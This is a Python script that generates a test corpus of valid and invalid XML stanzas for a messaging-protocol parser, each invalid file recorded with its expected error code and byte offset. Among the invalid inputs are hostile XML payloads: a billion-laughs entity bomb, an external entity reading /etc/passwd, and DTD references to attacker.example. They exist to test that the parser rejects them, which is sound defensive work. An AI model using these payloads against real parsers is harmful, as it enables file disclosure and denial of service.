#!/usr/bin/env python3
"""generate.py: writes the stanza corpus (valid/, invalid/) and manifest.json.

Usage:  python3 vectors/stanza/generate.py      (from anywhere; deterministic)

Every invalid file is named RULE__what.xml after the rule of reference/stanza/profile.h it
breaks, and the manifest gives that code and the byte offset where the fault is. The
offsets are computed here from how each file is built (the index of the offending byte),
not by running the parser, so the tests that compare them with reference/stanza check
one against the other. Valid message files carry the fields PTP `unwrap` must return
(for a fan-out message: the first participant's enc).

Committed files stay small (the largest, the 10,000-deep nesting, is about 70 KB);
inputs that only matter by size (over 1 MiB, a 256 KiB payload, an attribute that
"claims" 100 MB) are generated at test time by tests/stanza and suites/stz.
"""
import base64
import hashlib
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))


def blob(label, n):
    """n deterministic bytes named by label (SHA-256 in counter mode)."""
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{label}/{i}".encode()).digest()
        i += 1
    return out[:n]


def b64(b):
    return base64.b64encode(b).decode()


CT1 = b"\x33" + blob("pkmsg", 150)   # a PreKeySignalMessage-sized payload
CT2 = b"\x33" + blob("msg", 60)
CT3 = blob("skmsg", 90)
KIND = {"pkmsg": "prekey", "msg": "message", "skmsg": "skmsg"}

ID = "3EB0A1B2C3D4E5F6"
TO = "bob@interop.example"
FROM = "alice@provider.example"


def message(body, attrs=None, extra=""):
    a = attrs if attrs is not None else f'id="{ID}" to="{TO}" from="{FROM}" type="text" t="1732600000"'
    return f'<message {a}{extra}>{body}</message>'


def enc(ct=CT1, typ="pkmsg", extra=""):
    return f'<enc v="2" type="{typ}"{extra}>{b64(ct)}</enc>'


def user(jid="bob@interop.example", key=True, reg=b"\x00\x00\x30\x39", typ=b"\x05", identity=None, drop=None):
    identity = identity if identity is not None else blob("identity/" + jid, 32)
    spk_id, opk_id = b64(b"\x00\x00\x01"), b64(b"\x00\x00\x02")
    parts = {
        "registration": f"<registration>{b64(reg)}</registration>",
        "type": f"<type>{b64(typ)}</type>",
        "identity": f"<identity>{b64(identity)}</identity>",
        "skey": f"<skey><id>{spk_id}</id><value>{b64(blob('spk/' + jid, 32))}</value>"
                f"<signature>{b64(blob('sig/' + jid, 64))}</signature></skey>",
        "key": f"<key><id>{opk_id}</id><value>{b64(blob('opk/' + jid, 32))}</value></key>" if key else "",
    }
    if drop:
        parts[drop] = ""
    return f'<user jid="{jid}">\n      ' + "\n      ".join(p for p in parts.values() if p) + "\n    </user>"


def key_bundle(users, attrs='id="k1" type="result" from="interop.example"'):
    return f'<iq {attrs}>\n  <list>\n    ' + "\n    ".join(users) + "\n  </list>\n</iq>\n"


def receipt(retry='count="1" id="3EB0A1B2C3D4E5F6" t="1732600005" v="1"', attrs=None):
    a = attrs if attrs is not None else 'id="3EB0A1B2C3D4E5F6" to="alice@provider.example" type="retry"'
    return f'<receipt {a}>\n  <retry {retry}/>\n  <registration>AAAwOQ==</registration>\n</receipt>\n'


files = {}


def valid(name, text, stanza, unwrap=None):
    data = text.encode() if isinstance(text, str) else text
    entry = {"expect": "valid", "stanza": stanza}
    if unwrap:
        id_, to, frm, typ, ct = unwrap
        entry["unwrap"] = {"id": id_, "to": to, "from": frm, "kind": KIND[typ], "ciphertext": ct.hex()}
    files["valid/" + name] = (data, entry)


def invalid(name, text, code, at, hostile=False, note=None):
    """at: the offset, or a marker (str/bytes) whose first occurrence is the fault, or (marker, delta)."""
    data = text.encode() if isinstance(text, str) else text
    if isinstance(at, int):
        off = at
    else:
        marker, delta = at if isinstance(at, tuple) else (at, 0)
        marker = marker.encode() if isinstance(marker, str) else marker
        off = data.index(marker) + delta
    assert name.startswith(code + "__"), name
    entry = {"expect": "invalid", "code": code, "offset": off}
    if hostile:
        entry["hostile"] = True
    if note:
        entry["note"] = note
    files["invalid/" + name] = (data, entry)


# ---- valid ------------------------------------------------------------------------
valid("message_pkmsg.xml", message(enc()) + "\n", "message", (ID, TO, FROM, "pkmsg", CT1))
valid("message_msg_without_t.xml", message(enc(CT2, "msg"), f'id="m-2.x_Y" to="{TO}" from="{FROM}" type="text"'),
      "message", ("m-2.x_Y", TO, FROM, "msg", CT2))
valid("message_skmsg_media.xml",
      message(enc(CT3, "skmsg", ' mediatype="image"'),
              f'id="g1" to="group1@groups.interop.example" from="{FROM}/phone" type="media" t="0"'),
      "message", ("g1", "group1@groups.interop.example", FROM + "/phone", "skmsg", CT3))
fan = "".join(f'<to jid="bob.{i}@interop.example">{enc(blob(f"dev{i}", 40 + i), "pkmsg" if i % 2 else "msg")}</to>'
              for i in range(3))
valid("message_participants.xml", message(f"<participants>{fan}</participants>"), "message",
      (ID, TO, FROM, "msg", blob("dev0", 40)))
valid("message_forward_compatible.xml",
      f'<message xmlns="jabber:client" id="{ID}" to="{TO}" from="{FROM}" type="text" t="1732600000" edit="1"\n'
      f'         category="peer">\n'
      f'  <meta reason="x"><deeper><deepest/></deeper></meta>\n'
      f'  {enc()}\n'
      f'  <device-identity>{b64(blob("adv", 20))}</device-identity>\n'
      f'  <reporting><reporting_token v="2">AAAA</reporting_token></reporting>\n'
      f'</message>\n', "message", (ID, TO, FROM, "pkmsg", CT1))
valid("message_participants_forward_compatible.xml",
      message('<participants phash="2:abc"><to jid="bob.1@interop.example" extra="y"><hint/>'
              f'{enc(CT2, "msg")}</to><unknown/></participants>'),
      "message", (ID, TO, FROM, "msg", CT2))
valid("message_escapes_and_utf8.xml",
      message(enc(CT2, "msg"), f'id="{ID}" to="bob@interop.example/caf&#xE9; &amp; &lt;&quot;tea&quot;&gt;" '
                               f'from=\'alice@provider.example/t&apos;l\u00e9phone \U0001F600\' type="text"'),
      "message", (ID, "bob@interop.example/caf\u00e9 & <\"tea\">", "alice@provider.example/t'l\u00e9phone \U0001F600",
                  "msg", CT2))
valid("message_cdata.xml", message(f'<enc v="2" type="msg"><![CDATA[{b64(CT2)}]]></enc>'), "message",
      (ID, TO, FROM, "msg", CT2))
nest16 = "<x>" * 15 + "</x>" * 15  # message is depth 1, the innermost x depth 16
valid("message_depth_16.xml", message(nest16 + enc()), "message", (ID, TO, FROM, "pkmsg", CT1))
valid("message_32_attributes.xml",
      message(enc(), extra="".join(f' a{i}="{i}"' for i in range(27))), "message", (ID, TO, FROM, "pkmsg", CT1))
valid("message_attribute_4096_bytes.xml",
      message(enc(), extra=' note="' + "&amp;" + "n" * 4095 + '"'), "message", (ID, TO, FROM, "pkmsg", CT1))
valid("message_empty_enc.xml", message('<enc v="2" type="msg"/>'), "message", (ID, TO, FROM, "msg", b""))
valid("key_bundle.xml", key_bundle([user()]), "iq")
valid("key_bundle_two_users.xml",
      key_bundle([user("bob@interop.example"), user("bob.2@interop.example", key=False)],
                 'id="k-2" type="result" from="bob@interop.example/dev1" extra="ignored"'), "iq")
valid("retry_receipt.xml", receipt(), "receipt")
valid("retry_receipt_forward_compatible.xml",
      receipt('count="12" id="abc" t="1732600005" v="1" error="decrypt"',
              'id="r.1" to="alice@provider.example" type="retry" participant="x"'), "receipt")

# ---- invalid: XML restrictions (hostile) --------------------------------------------
billion = ('<!DOCTYPE message [\n <!ENTITY lol "lol">\n' +
           "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
                   for i in range(1, 10)) +
           ']>\n' + message(f'<enc v="2" type="msg">&lol9;</enc>'))
invalid("doctype__billion_laughs.xml", billion, "doctype", 0, hostile=True)
invalid("doctype__external_entity.xml",
        '<!DOCTYPE message [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n' + message(f'<enc v="2" type="msg">&xxe;</enc>'),
        "doctype", 0, hostile=True)
invalid("doctype__external_dtd.xml", '  <!DOCTYPE message SYSTEM "http://attacker.example/x.dtd">' + message(enc()),
        "doctype", 2, hostile=True)
invalid("doctype__parameter_entity.xml",
        '<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>' + message(enc()), "doctype", 0,
        hostile=True)
invalid("dtd__entity_declaration_in_content.xml", message('<!ENTITY x "y">' + enc()), "dtd", "<!ENTITY", hostile=True)
invalid("entity__undeclared_in_text.xml", message(f'<enc v="2" type="msg">&lol9;</enc>'), "entity", "&lol9;",
        hostile=True)
invalid("entity__in_attribute.xml", message(enc(), f'id="{ID}" to="{TO}" from="{FROM}" type="&text;"'), "entity",
        "&text;", hostile=True)
invalid("entity__html_nbsp.xml", message(enc(), extra=' note="a&nbsp;b"'), "entity", "&nbsp;")
invalid("bad_character_reference__nul.xml", message(enc(), extra=' note="&#0;"'), "bad_character_reference", "&#0;",
        hostile=True)
invalid("bad_character_reference__surrogate.xml", message(enc(), extra=' note="&#xD800;"'),
        "bad_character_reference", "&#xD800;")
invalid("bad_character_reference__beyond_unicode.xml", message(enc(), extra=' note="&#99999999999999999999;"'),
        "bad_character_reference", "&#9")
invalid("processing_instruction__xml_declaration.xml", '<?xml version="1.0" encoding="UTF-8"?>' + message(enc()),
        "processing_instruction", 0)
invalid("processing_instruction__stylesheet.xml", message('<?xml-stylesheet href="x"?>' + enc()),
        "processing_instruction", "<?", hostile=True)
invalid("comment__inside_message.xml", message("<!-- hi -->" + enc()), "comment", "<!--")
invalid("comment__before_root.xml", "<!-- hi -->\n" + message(enc()), "comment", 0)
deep = "<a>" * 10000 + "</a>" * 10000
invalid("depth__10000_levels.xml", deep, "depth", 16 * 3, hostile=True)
invalid("depth__17_levels.xml", message("<x>" * 16 + "</x>" * 16 + enc()), "depth", ("<x>", 15 * 3), hostile=True)
invalid("attribute_count__33.xml", message(enc(), extra="".join(f' a{i}="{i}"' for i in range(28))),
        "attribute_count", (" a27=", 1), hostile=True)
invalid("attribute_count__1000.xml", "<message" + "".join(f' a{i}="{i}"' for i in range(1000)) + "/>",
        "attribute_count", (' a32=', 1), hostile=True)
invalid("attribute_length__4097_bytes.xml", message(enc(), extra=' note="' + "n" * 4097 + '"'), "attribute_length",
        ('note="', 6), hostile=True)
invalid("attribute_length__100MB_claim.xml", message(enc(), extra=' note="' + "A" * 8192),
        "attribute_length", ('note="', 6), hostile=True,
        note="a value that never ends: refused at 4 KiB, not read to its end")
invalid("duplicate_attribute__id.xml", message(enc(), f'id="{ID}" to="{TO}" from="{FROM}" type="text" id="other"'),
        "duplicate_attribute", (' id="other"', 1), hostile=True)
invalid("duplicate_attribute__enc_type.xml", message('<enc v="2" type="msg" type="pkmsg">AAAA</enc>'),
        "duplicate_attribute", ('type="pkmsg"', 0), hostile=True)
invalid("not_utf8__lone_continuation.xml", message(enc(), extra=' note="aXb"').encode().replace(b"aXb", b"a\x80b"),
        "not_utf8", (b"a\x80b", 1), hostile=True)
invalid("not_utf8__overlong_slash.xml", message(enc(), extra=' note="aXb"').encode().replace(b"aXb", b"a\xc0\xafb"),
        "not_utf8", (b"\xc0", 0), hostile=True)
invalid("not_utf8__surrogate.xml", message(enc(), extra=' note="aXb"').encode().replace(b"aXb", b"a\xed\xa0\x80b"),
        "not_utf8", (b"\xed", 0), hostile=True)
invalid("not_utf8__latin1.xml", message(enc(), f'id="{ID}" to="{TO}" from="alice@provider.example/Xt" type="text"')
        .encode().replace(b"/Xt", b"/\xe9t"), "not_utf8", (b"/\xe9t", 1), hostile=True)
invalid("not_utf8__truncated_at_end.xml", message(enc()).encode() + b"\xe2\x82", "not_utf8",
        len(message(enc()).encode()), hostile=True)
invalid("nul_byte__in_text.xml", message(f'<enc v="2" type="msg">AA\x00A</enc>'), "nul_byte", "\x00", hostile=True)
invalid("nul_byte__in_attribute.xml", message(enc(), f'id="3EB0\x00" to="{TO}" from="{FROM}" type="text"'), "nul_byte",
        "\x00", hostile=True)
invalid("bad_character__control.xml", message(enc(), extra=' note="\x01"'), "bad_character", "\x01", hostile=True)
invalid("bad_xml__byte_order_mark.xml", "\ufeff" + message(enc()), "bad_xml", 0)
invalid("bad_xml__empty.xml", "", "bad_xml", 0)
invalid("bad_xml__white_space_only.xml", "  \n", "bad_xml", 3)
invalid("bad_xml__mismatched_tags.xml", message(f'<enc v="2" type="msg">AAAA</env>'), "bad_xml", ("</env>", 2),
        note="pugixml's offset: the end tag's name")
invalid("bad_xml__two_roots.xml", message(enc()) + message(enc()), "bad_xml", len(message(enc())))
invalid("bad_xml__text_after_root.xml", message(enc()) + "trailing", "bad_xml", len(message(enc())))
invalid("bad_xml__bare_ampersand.xml", message(enc(), extra=' note="fish & chips"'), "bad_xml", "& chips")
invalid("bad_xml__unquoted_attribute.xml", message(enc(), f'id={ID} to="{TO}" from="{FROM}" type="text"'), "bad_xml",
        ("id=3", 3))
invalid("bad_xml__unclosed.xml", message(enc())[:-len("</message>")], "bad_xml", len(message(enc())) - len("</message>"))
invalid("bad_xml__lt_in_attribute.xml", message(enc(), extra=' note="a<b"'), "bad_xml", ("a<b", 1))

# ---- invalid: the profile ----------------------------------------------------------
invalid("unknown_stanza__presence.xml", f'<presence id="{ID}" to="{TO}"/>', "unknown_stanza", 0)
invalid("missing_attribute__message_id.xml", message(enc(), f'to="{TO}" from="{FROM}" type="text"'),
        "missing_attribute", 0)
invalid("missing_attribute__message_type.xml", message(enc(), f'id="{ID}" to="{TO}" from="{FROM}"'),
        "missing_attribute", 0)
invalid("missing_attribute__enc_type.xml", message('<enc v="2">AAAA</enc>'), "missing_attribute", "<enc")
invalid("missing_attribute__enc_v.xml", message('<enc type="msg">AAAA</enc>'), "missing_attribute", "<enc")
invalid("missing_attribute__participant_jid.xml", message(f"<participants><to>{enc()}</to></participants>"),
        "missing_attribute", "<to>")
invalid("missing_attribute__retry_t.xml", receipt('count="1" id="abc" v="1"'), "missing_attribute", "<retry")
invalid("missing_element__no_enc.xml", message("<body>hi</body>"), "missing_element", 0)
invalid("missing_element__empty_participants.xml", message("<participants></participants>"), "missing_element",
        "<participants>")
invalid("missing_element__participant_without_enc.xml",
        message('<participants><to jid="bob.1@interop.example"/></participants>'), "missing_element", "<to ")
invalid("missing_element__user_identity.xml", key_bundle([user(drop="identity")]), "missing_element", "<user")
invalid("missing_element__skey.xml", key_bundle([user(drop="skey")]), "missing_element", "<user")
invalid("missing_element__no_list.xml", '<iq id="k1" type="result" from="interop.example"/>', "missing_element", 0)
invalid("missing_element__empty_list.xml", '<iq id="k1" type="result" from="interop.example"><list/></iq>',
        "missing_element", "<list")
invalid("missing_element__retry_registration.xml",
        '<receipt id="r1" to="alice@provider.example" type="retry"><retry count="1" id="a" t="1" v="1"/></receipt>',
        "missing_element", 0)
invalid("duplicate_element__two_enc.xml", message(enc() + enc(CT2, "msg")), "duplicate_element", ('<enc v="2" type="msg"', 0))
invalid("duplicate_element__two_identity.xml",
        key_bundle([user().replace("<identity>", f"<identity>{b64(blob('i2', 32))}</identity><identity>", 1)]),
        "duplicate_element", ("</identity><identity>", len("</identity>")))
invalid("enc_and_participants__both.xml",
        message(enc() + f'<participants><to jid="bob.1@interop.example">{enc()}</to></participants>'),
        "enc_and_participants", "<participants>")
invalid("unknown_attribute__enc.xml", message(f'<enc v="2" type="msg" foo="bar">AAAA</enc>'), "unknown_attribute",
        "foo=")
invalid("unknown_element__in_enc.xml", message(f'<enc v="2" type="msg">AAAA<extra/></enc>'), "unknown_element",
        "<extra/>")
invalid("bad_id__65_characters.xml", message(enc(), f'id="{"A" * 65}" to="{TO}" from="{FROM}" type="text"'), "bad_id",
        ('id="', 4 + 64))
invalid("bad_id__character.xml", message(enc(), f'id="3EB0 A1" to="{TO}" from="{FROM}" type="text"'), "bad_id",
        ("3EB0 A1", 4))
invalid("bad_id__empty.xml", message(enc(), f'id="" to="{TO}" from="{FROM}" type="text"'), "bad_id", ('id=""', 4))
invalid("bad_id__retry.xml", receipt('count="1" id="a/b" t="1" v="1"'), "bad_id", ('id="a/b"', 5))
invalid("bad_jid__no_local_part.xml", message(enc(), f'id="{ID}" to="interop.example" from="{FROM}" type="text"'),
        "bad_jid", 'interop.example" from')
invalid("bad_jid__empty_local_part.xml", message(enc(), f'id="{ID}" to="@interop.example" from="{FROM}" type="text"'),
        "bad_jid", '@interop.example"')
invalid("bad_jid__domain_hyphen.xml", message(enc(), f'id="{ID}" to="bob@-interop.example" from="{FROM}" type="text"'),
        "bad_jid", ("-interop", 0))
invalid("bad_jid__domain_underscore.xml", message(enc(), f'id="{ID}" to="bob@inter_op.example" from="{FROM}" type="text"'),
        "bad_jid", ("_op", 0))
invalid("bad_jid__local_65_bytes.xml", message(enc(), f'id="{ID}" to="{"b" * 65}@interop.example" from="{FROM}" type="text"'),
        "bad_jid", ('to="', 4 + 64))
invalid("bad_jid__empty_resource.xml", message(enc(), f'id="{ID}" to="{TO}/" from="{FROM}" type="text"'), "bad_jid",
        ('example/"', 8))
invalid("bad_jid__participant.xml", message('<participants><to jid="bob@">' + enc() + "</to></participants>"),
        "bad_jid", ('jid="bob@"', 9))
invalid("bad_timestamp__leading_zero.xml", message(enc(), f'id="{ID}" to="{TO}" from="{FROM}" type="text" t="01"'),
        "bad_timestamp", ('t="01"', 3))
invalid("bad_timestamp__sign.xml", message(enc(), f'id="{ID}" to="{TO}" from="{FROM}" type="text" t="+1"'),
        "bad_timestamp", ('t="+1"', 3))
invalid("bad_timestamp__overflow.xml",
        message(enc(), f'id="{ID}" to="{TO}" from="{FROM}" type="text" t="18446744073709551616"'), "bad_timestamp",
        ('t="1', 3))
invalid("bad_timestamp__fraction.xml", message(enc(), f'id="{ID}" to="{TO}" from="{FROM}" type="text" t="1.5"'),
        "bad_timestamp", ('t="1.5"', 3))
invalid("bad_number__retry_count.xml", receipt('count="-1" id="a" t="1" v="1"'), "bad_number", ('count="', 7))
invalid("bad_type__message.xml", message(enc(), f'id="{ID}" to="{TO}" from="{FROM}" type="chat"'), "bad_type",
        ('type="chat"', 6))
invalid("bad_type__iq_get.xml", '<iq id="k1" type="get" from="interop.example"><list/></iq>', "bad_type",
        ('type="get"', 6))
invalid("bad_type__receipt.xml", receipt(attrs='id="r1" to="alice@provider.example" type="read"'), "bad_type",
        ('type="read"', 6))
invalid("unknown_enc_type__prekey.xml", message('<enc v="2" type="prekey">AAAA</enc>'), "unknown_enc_type",
        ('type="prekey"', 6))
invalid("bad_version__3.xml", message('<enc v="3" type="msg">AAAA</enc>'), "bad_version", ('v="3"', 3))
invalid("bad_version__02.xml", message('<enc v="02" type="msg">AAAA</enc>'), "bad_version", ('v="02"', 3))
invalid("bad_mediatype__sticker.xml", message('<enc v="2" type="msg" mediatype="sticker">AAAA</enc>'),
        "bad_mediatype", ('mediatype="', 11))
invalid("bad_base64__white_space.xml", message('<enc v="2" type="msg">AAAA AAAA</enc>'), "bad_base64",
        ("AAAA AAAA", 4))
invalid("bad_base64__line_break.xml", message('<enc v="2" type="msg">AAA\nAAAA</enc>'), "bad_base64", ("AAA\n", 3))
invalid("bad_base64__leading_space.xml", message('<enc v="2" type="msg"> AAA</enc>'), "bad_base64", ("> AAA", 1))
invalid("bad_base64__no_padding.xml", message('<enc v="2" type="msg">AAAAAA</enc>'), "bad_base64",
        ("AAAAAA<", 6))
invalid("bad_base64__url_alphabet.xml", message('<enc v="2" type="msg">AA-_</enc>'), "bad_base64", ("AA-_", 2))
invalid("bad_base64__nonzero_pad_bits.xml", message('<enc v="2" type="msg">AB==</enc>'), "bad_base64", ("AB==", 1))
invalid("bad_base64__padding_inside.xml", message('<enc v="2" type="msg">AA==AAAA</enc>'), "bad_base64",
        ("AA==AAAA", 2))
invalid("bad_base64__registration.xml", receipt().replace("AAAwOQ==", "AAAwOQ="), "bad_base64",
        ("AAAwOQ=<", 7))
invalid("bad_length__registration_3_bytes.xml", receipt().replace("AAAwOQ==", "AAAw"), "bad_length", "AAAw<")
invalid("bad_length__identity_33_bytes.xml",
        key_bundle([user(identity=blob("x", 33))]), "bad_length", (b64(blob("x", 33)), 0))
invalid("bad_key_type__0x06.xml", key_bundle([user(typ=b"\x06")]), "bad_key_type", "<type>")


def main():
    for sub in ("valid", "invalid"):
        d = os.path.join(HERE, sub)
        os.makedirs(d, exist_ok=True)
        for f in os.listdir(d):
            os.remove(os.path.join(d, f))
    manifest = {
        "description": "The stanza corpus (stanzas.md): every file of valid/ and invalid/ with what the profile "
                       "says of it. Written by vectors/stanza/generate.py; offsets are byte offsets.",
        "files": {},
    }
    for name in sorted(files):
        data, entry = files[name]
        with open(os.path.join(HERE, name), "wb") as f:
            f.write(data)
        manifest["files"][name] = entry
    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
        f.write("\n")
    print(f"{len(files)} files")


if __name__ == "__main__":
    main()
